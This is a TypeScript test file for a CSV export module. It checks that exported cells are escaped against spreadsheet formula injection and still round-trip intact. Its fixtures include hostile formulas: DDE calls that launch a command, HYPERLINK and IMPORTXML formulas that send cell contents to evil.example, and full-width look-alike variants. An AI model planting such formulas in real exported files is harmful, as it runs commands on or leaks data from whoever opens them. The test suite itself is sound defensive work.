import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { escapeCell, unescapeCell } from '../../src/domain/spreadsheet-cell.ts';
import { assetsCsv } from '../../src/formats/assets-csv.ts';
import { writeCsv } from '../../src/formats/csv.ts';
import { linkedTables } from '../../src/formats/linked-csv.ts';
import { siteOf } from '../fixtures/there-and-back.ts';
import { allHostileStrings } from '../hostile/own-strings.ts';
import { contextOf } from '../views/town-on-a-day.ts';

const realData = process.env['REAL_DATA'];
const naughty =
  realData === undefined
    ? []
    : (JSON.parse(readFileSync(join(realData, 'hostile-strings', 'blns.json'), 'utf8')) as string[]);

/** Formulas as they are sent to panels, and near misses. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1',
  "'=1+1",
  "''=1+1",
  "' =1+1",
  '"=1+1"',
  '=1+1,=2+2',
  '=1+1\n=2+2',
  "'quoted'",
  "'",
  '',
  'a=b',
  'A-Z',
];

/** Half a character cannot stand in a file at all, and no entry can hold one. */
const all = [...new Set([...formulas, ...allHostileStrings, ...naughty])].filter((text) =>
  text.isWellFormed(),
);

/** What a spreadsheet takes for the start of a formula, spaces and marks that nobody sees left out. */
function runs(cell: string): boolean {
  const seen = cell.replace(/^[\s\p{Cf}\uFEFF]+/u, '');
  return /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\u2212]/u.test(seen) || /^[\t\r\n]/.test(cell);
}

describe('a cell of a table for others', () => {
  test('is no formula, whatever somebody wrote, and gives back what they wrote', () => {
    expect(all.length).toBeGreaterThan(realData === undefined ? 150 : 600);
    const cells = all.map(escapeCell);
    expect(cells.filter(runs)).toEqual([]);
    expect(cells.map(unescapeCell)).toEqual(all);
    expect(all.filter((text) => runs(text)).length).toBeGreaterThan(20);
  });

  test('stays in its place: quotes, commas and line breaks start no other cell', () => {
    const text = writeCsv(
      ['a', 'b'],
      all.map((cell, index) => [cell, index]),
    );
    const rows = parse(text, { bom: true });
    expect(rows.length).toBe(all.length + 1);
    expect(rows.slice(1).map(([cell = '', number]) => [unescapeCell(cell), number])).toEqual(
      all.map((cell, index) => [cell, String(index)]),
    );
    expect(rows.flat().filter(runs)).toEqual([]);
  });

  test('keeps a number a number, minus sign and all', () => {
    expect(writeCsv(['lon'], [[-1.5]])).toBe('\uFEFFlon\r\n-1.5\r\n');
  });
});

describe('the tables of a town whose people write formulas', () => {
  const title = '=HYPERLINK("https://evil.example","Soup")';
  const { directory } = contextOf(
    {
      assets: {
        soup: { title, give: '@SUM(A1)', where: [{ venue: 'hall', note: '+1' }], body: '- one\n- two' },
      },
      venues: { hall: { title: '-Hall', lat: 54.7, lon: -2.7, address: ['=1', 'Town'] } },
    },
    '2026-11-22',
  );
  const site = siteOf(directory);
  const files = [
    { name: 'assets.csv', text: assetsCsv(site) },
    ...linkedTables(site).filter(({ name }) => name.endsWith('.csv')),
  ];

  test.each(files)('hold no cell that runs: $name', ({ text }) => {
    const rows = parse(text, { bom: true });
    expect(rows.flat().filter((cell) => runs(cell) && Number.isNaN(Number(cell)))).toEqual([]);
  });

  test('say what is written in the entry all the same', () => {
    const [first] = parse(assetsCsv(site), { bom: true, columns: true }) as unknown as Record<
      string,
      string
    >[];
    expect(unescapeCell(first?.['Name'] ?? '')).toBe(title);
    expect(first?.['Longitude']).toBe('-2.7');
    expect(first?.['Licence']).toContain('CC BY 4.0');
  });
});
